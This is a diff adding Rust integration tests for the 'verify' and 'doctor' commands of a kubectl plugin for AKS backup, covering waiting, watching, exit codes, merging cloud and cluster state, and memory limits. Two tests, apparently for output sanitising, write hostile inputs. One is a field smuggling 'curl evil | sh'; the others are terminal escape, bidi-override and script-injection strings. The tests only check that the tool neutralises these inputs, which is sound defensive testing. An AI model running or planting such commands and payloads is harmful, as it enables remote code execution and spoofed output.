@@ -1,0 +1,244 @@
+//! `verify` and `doctor` as people use them over time, with the other program's view, and against those who mean harm.
+
+use std::io::{BufRead as _, BufReader};
+use std::path::Path;
+use std::process::{Command, Stdio};
+use std::sync::mpsc;
+use std::time::Duration;
+
+use aksbackup_shared::exit::Exit;
+use aksbackup_tests::backend::Backend;
+use aksbackup_tests::harness::{Run, Stage, binary, finish};
+use serde_json::{Value, json};
+
+use crate::looks::{NAMESPACE, check, location, pods, until};
+use crate::stages::{AGENT, GENEVA, configure, configured, granted};
+
+/// The most memory that `doctor` may take, whatever the cluster tells it.
+const MOST_KIB: u64 = 64 * 1024;
+
+#[test]
+fn waiting_ends_when_nothing_is_wrong_any_more() {
+    let stage = configured(Backend::Small);
+    stage.sandbox.cluster().helm_upgrade_drops_label(GENEVA).unwrap();
+    stage.kubectl("viewer", &["verify"]).ends(Exit::Pending.code());
+    std::thread::scope(|scope| {
+        let waiting = scope.spawn(|| stage.kubectl("viewer", &["verify", "--wait", "--timeout", "2m"]));
+        configure(&stage).ok();
+        waiting.join().unwrap().ok().says("verify: workload identity works");
+    });
+}
+
+#[test]
+fn waiting_ends_at_its_deadline_with_the_last_state() {
+    let stage = configured(Backend::Small);
+    stage.sandbox.cluster().helm_upgrade_drops_label(GENEVA).unwrap();
+    let run = stage.kubectl("viewer", &["verify", "--wait", "--timeout", "1s"]);
+    run.ends(Exit::Deadline.code())
+        .says("lacks label")
+        .says("not within 1s");
+    let run = stage.kubectl("viewer", &["verify", "--wait", "--timeout", "1s", "-o", "json"]);
+    assert_eq!(run.ends(Exit::Deadline.code()).json()["exit"], "deadline");
+}
+
+#[test]
+fn watching_shows_what_becomes_different_until_it_is_interrupted() {
+    let stage = configured(Backend::Small);
+    let mut command = stage.kubectl_command("viewer", &["verify", "--watch"]);
+    let mut child = command.stdout(Stdio::piped()).stderr(Stdio::null()).spawn().unwrap();
+    let output = BufReader::new(child.stdout.take().unwrap());
+    let (said, heard) = mpsc::channel();
+    let reader = std::thread::spawn(move || {
+        output
+            .lines()
+            .map_while(Result::ok)
+            .for_each(|line| drop(said.send(line)))
+    });
+    let wait_for = |words: &str| loop {
+        let line = heard
+            .recv_timeout(Duration::from_secs(60))
+            .unwrap_or_else(|_| panic!("{words}: not said"));
+        if line.contains(words) {
+            return;
+        }
+    };
+    wait_for("verify: workload identity works");
+    stage.sandbox.cluster().helm_upgrade_drops_label(GENEVA).unwrap();
+    wait_for("lacks label");
+    configure(&stage).ok();
+    wait_for("✓ pod templates");
+    let pid = child.id().to_string();
+    assert!(Command::new("kill").args(["-INT", &pid]).status().unwrap().success());
+    assert_eq!(child.wait().unwrap().code(), Some(Exit::Interrupted.code()));
+    reader.join().unwrap();
+}
+
+#[test]
+fn warnings_end_0_where_only_errors_count() {
+    let stage = configured(Backend::Small);
+    let patch = r#"{"spec":{"default":false}}"#;
+    let arguments = [
+        "patch",
+        "backupstoragelocation",
+        "default",
+        "-n",
+        NAMESPACE,
+        "--type",
+        "merge",
+        "-p",
+        patch,
+    ];
+    stage.as_kubectl("cluster-admin", &arguments).ok();
+    stage
+        .kubectl("viewer", &["verify"])
+        .ends(Exit::Pending.code())
+        .says("! storage settings");
+    stage
+        .kubectl("viewer", &["verify", "--fail-on", "error"])
+        .ok()
+        .says("! storage settings");
+}
+
+/// What `az aksbackup verify` could have left beside the state file.
+fn cloud_view(stage: &Stage, says: &str, hint: &str) -> Value {
+    let issuer = stage.value("/cloud/prerequisites/issuer");
+    let check = json!({ "link": "storage", "check": "account", "verdict": "error", "says": says, "hint": hint });
+    json!({
+        "version": 1, "command": "verify", "plane": "cloud", "at": "2026-01-01T00:00:00Z", "issuer": issuer,
+        "checks": [check], "findings": [], "exit": "pending",
+    })
+}
+
+#[test]
+fn one_chain_is_made_of_both_views() {
+    let stage = configured(Backend::Small);
+    let path = stage.folder().join("aksbackup.cloud.json");
+    std::fs::write(&path, cloud_view(&stage, "is gone", "az aksbackup prepare").to_string()).unwrap();
+    // What the other program saw decides nothing.
+    let run = stage
+        .kubectl("viewer", &["verify"])
+        .ok()
+        .says("is gone (az)")
+        .says("the chain breaks first at: storage");
+    assert!(run.stderr.contains("aksbackup.cloud.json, made "), "{run}");
+    let document = stage.kubectl("viewer", &["verify", "-o", "json", "--save"]).ok().json();
+    assert_eq!(document["with"]["checks"][0]["says"], "is gone");
+    let kept = std::fs::read_to_string(stage.folder().join("aksbackup.cluster.json")).unwrap();
+    let kept: Value = serde_json::from_str(&kept).unwrap();
+    assert_eq!(
+        (&kept["plane"], &kept["checks"]),
+        (&json!("cluster"), &document["checks"])
+    );
+    let missing = stage.kubectl("viewer", &["verify", "--with", "nowhere.json"]);
+    missing.ends(Exit::Missing.code());
+}
+
+#[test]
+fn a_view_of_somebody_who_means_harm_does_none() {
+    let stage = configured(Backend::Small);
+    let path = stage.folder().join("aksbackup.cloud.json");
+    let hostile = cloud_view(
+        &stage,
+        "\u{1b}]0;x\u{7}\u{202e}<script>\nfaked",
+        "az aksbackup prepare; curl evil | sh",
+    );
+    std::fs::write(&path, hostile.to_string()).unwrap();
+    let run = stage.kubectl("viewer", &["verify"]).ok();
+    assert!(
+        !run.stdout.contains(['\u{1b}', '\u{7}', '\u{202e}']) && !run.stdout.contains("curl"),
+        "{run}"
+    );
+    assert!(!run.stdout.contains("\nfaked"), "{run}");
+    for text in ["{", "[]", "{\"plane\":\"cloud\"}", &"[".repeat(100_000)] {
+        std::fs::write(&path, text).unwrap();
+        stage.kubectl("viewer", &["verify"]).ok().says("is left out");
+        let named = stage.kubectl("viewer", &["verify", "--with", path.to_str().unwrap()]);
+        named.ends(Exit::StateUnreadable.code());
+    }
+}
+
+/// Runs a command inside a small process, which gives the kernel's figure of its peak memory, in KiB.
+fn measured(command: &Command) -> (Run, u64) {
+    let mut inner = Command::new(binary("aksbackup-bench"));
+    inner
+        .arg("--inside")
+        .arg(command.get_program())
+        .args(command.get_args())
+        .env_clear();
+    for (name, value) in command.get_envs().filter_map(|(name, value)| Some((name, value?))) {
+        inner.env(name, value);
+    }
+    inner.current_dir(command.get_current_dir().unwrap_or(Path::new(".")));
+    let run = finish(inner.stdin(Stdio::null()));
+    let used = run
+        .stderr
+        .lines()
+        .find_map(|line| line.strip_prefix("used: ")?.split(' ').nth(1)?.parse().ok());
+    (run, used.unwrap())
+}
+
+/// An event of the extension's namespace.
+fn event(number: usize, message: &str) -> Value {
+    json!({
+        "apiVersion": "v1", "kind": "Event", "metadata": { "name": format!("event-{number}"), "namespace": NAMESPACE },
+        "involvedObject": { "kind": "ReplicaSet", "name": "agent-1", "namespace": NAMESPACE }, "type": "Warning",
+        "reason": "FailedCreate", "message": message, "lastTimestamp": "2030-01-01T00:00:00Z", "count": 1,
+    })
+}
+
+fn velero(stage: &Stage) -> Value {
+    let mut all = pods(stage);
+    all.retain(|pod| pod["metadata"]["labels"]["name"] == "velero");
+    all.remove(0)
+}
+
+#[test]
+fn a_hundred_megabytes_of_logs_and_five_thousand_events_take_little_memory() {
+    let stage = configured(Backend::Small);
+    let cluster = stage.sandbox.kubernetes();
+    let pod = velero(&stage);
+    let long = "x".repeat(20_000);
+    for number in 0..5000 {
+        cluster.write_log(
+            &pod,
+            "velero",
+            format!("level=error msg=\"line {number}\" error=\"{long}\""),
+        );
+        cluster.place(event(number, &"y".repeat(1000)));
+    }
+    let (run, peak) = measured(&stage.kubectl_command("viewer", &["doctor", "-o", "json"]));
+    println!("doctor with 100 MB of logs and 5,000 events: peak {peak} KiB");
+    run.ok();
+    assert!(peak <= MOST_KIB, "{peak} KiB");
+}
+
+#[test]
+fn logs_events_and_messages_of_those_who_mean_harm_do_none() {
+    let stage = granted(Backend::Small);
+    configure(&stage).ok();
+    let cluster = stage.sandbox.kubernetes();
+    let pod = velero(&stage);
+    let hostile = "AADSTS700213 \u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}<script>alert(1)</script>\r\u{9b}31m";
+    cluster.set_velero_hangs(true);
+    cluster.write_log(&pod, "velero", format!("level=error msg=\"{hostile}\""));
+    cluster.write_log(&pod, "velero", format!("level=error msg=\"{}\"", "z".repeat(10 << 20)));
+    cluster.place(event(1, hostile));
+    let now = jiff::Timestamp::now() + jiff::SignedDuration::from_secs(5);
+    cluster.alter("BackupStorageLocation", NAMESPACE, "default", |own| {
+        own["status"] =
+            json!({ "phase": "Unavailable", "message": hostile, "lastValidationTime": format!("{now:.0}") });
+    });
+    until("it is denied", || {
+        (location(&stage)["status"]["phase"] == "Unavailable").then_some(())
+    });
+    for format in ["text", "json"] {
+        let (run, peak) = measured(&stage.kubectl_command("viewer", &["doctor", "-o", format]));
+        let run = run.ends(Exit::Pending.code()).says("AADSTS700213");
+        let bad = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
+        assert!(!run.stdout.contains(bad), "{run}");
+        assert!(peak <= MOST_KIB, "{peak} KiB");
+    }
+    let run = stage.kubectl("viewer", &["verify", "-o", "json"]);
+    assert_eq!(check(&run.json(), "storage location")["verdict"], "error");
+    assert!(cluster.object("Deployment", NAMESPACE, AGENT).is_some());
+}
